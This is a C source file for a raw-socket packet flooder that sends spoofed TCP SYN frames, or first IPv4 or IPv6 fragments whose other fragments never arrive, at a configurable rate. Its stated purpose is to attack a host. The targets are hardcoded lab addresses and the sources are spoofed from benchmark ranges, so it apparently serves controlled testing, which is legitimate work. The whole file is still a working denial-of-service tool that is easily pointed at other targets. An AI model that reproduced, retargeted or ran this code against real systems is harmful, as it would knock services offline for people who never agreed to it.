/*
 * Attacks the host 10.0.0.2, or fd00::2, on a network interface: attack INTERFACE MAC KIND RATE COUNT, with the MAC in
 * hexadecimal without colons. KIND is syn, fragment4 or fragment6. RATE is the number of frames in a second; 0 is as
 * fast as the interface takes them. Prints the number of frames and the seconds. The sources are addresses of
 * 198.18.0.0/15, or 2001:db8::1.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { ETHERNET_BYTES = 14, FRAGMENT_BYTES = 1440, MOST_BYTES = 1514, VICTIM_PORT = 7 };

static uint8_t frame[MOST_BYTES];

static uint32_t sum(const uint8_t *bytes, int length)
{
	uint32_t total = 0;
	for (int at = 0; at < length; at += 2)
		total += bytes[at] << 8 | bytes[at + 1];
	return total;
}

static void put16(int at, uint32_t value)
{
	frame[at] = value >> 8;
	frame[at + 1] = value;
}

static void put32(int at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

static uint32_t folded(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return ~total;
}

static void put_ipv4(int length, uint32_t number, int flags, int protocol)
{
	put16(12, ETH_P_IP);
	memset(frame + 14, 0, 20);
	frame[14] = 0x45;
	put16(16, length);
	put16(18, number);
	put16(20, flags);
	frame[22] = 64;
	frame[23] = protocol;
	put32(26, 0xc6120000 | number % (1 << 17));
	put32(30, 0x0a000002);
	put16(24, folded(sum(frame + 14, 20)));
}

/* A SYN with an MSS of 1460. Returns the length of the frame. */
static int put_syn(uint32_t number)
{
	put_ipv4(44, number, 0, 6);
	memset(frame + 34, 0, 24);
	put16(34, 1024 + number / (1 << 17));
	put16(36, VICTIM_PORT);
	put32(38, number);
	put16(46, 0x6002);
	put16(48, 65535);
	put32(54, 0x020405b4);
	put16(50, folded(sum(frame + 26, 8) + 6 + 24 + sum(frame + 34, 24)));
	return 58;
}

/* The first fragment of a packet whose other fragments never arrive. */
static int put_fragment4(uint32_t number)
{
	put_ipv4(20 + FRAGMENT_BYTES, number, 0x2000, 17);
	return ETHERNET_BYTES + 20 + FRAGMENT_BYTES;
}

static int put_fragment6(uint32_t number)
{
	put16(12, ETH_P_IPV6);
	put32(14, 0x60000000);
	put16(18, 8 + FRAGMENT_BYTES);
	frame[20] = 44;
	frame[21] = 64;
	inet_pton(AF_INET6, "2001:db8::1", frame + 22);
	inet_pton(AF_INET6, "fd00::2", frame + 38);
	put32(54, 17 << 24 | 1);
	put32(58, number);
	return ETHERNET_BYTES + 48 + FRAGMENT_BYTES;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 6 || strlen(argv[2]) != 12)
		return 64;
	int (*put)(uint32_t) = strcmp(argv[3], "syn") == 0         ? put_syn
			       : strcmp(argv[3], "fragment4") == 0 ? put_fragment4
								   : put_fragment6;
	double rate = atof(argv[4]);
	uint32_t count = atoi(argv[5]);
	for (int at = 0; at < 6; at++) {
		unsigned byte;
		if (sscanf(argv[2] + 2 * at, "%2x", &byte) != 1)
			return 64;
		frame[at] = byte;
		frame[6 + at] = at == 0 ? 2 : at == 5 ? 0x99 : 0;
	}
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1]), .sll_halen = 6 };
	memcpy(to.sll_addr, frame, 6);
	int raw = socket(AF_PACKET, SOCK_RAW, 0);
	if (raw < 0 || to.sll_ifindex == 0)
		return perror("socket"), 1;
	double begin = now();
	for (uint32_t number = 0; number < count; number++) {
		/* A thousand times a second, because a sleep takes longer than the time between two frames. */
		if (rate > 0 && number / rate > now() - begin)
			nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
		int length = put(number);
		/* A full queue of the interface loses the frame. */
		sendto(raw, frame, length, 0, (struct sockaddr *)&to, sizeof to);
	}
	printf("%u %.6f\n", count, now() - begin);
	return 0;
}
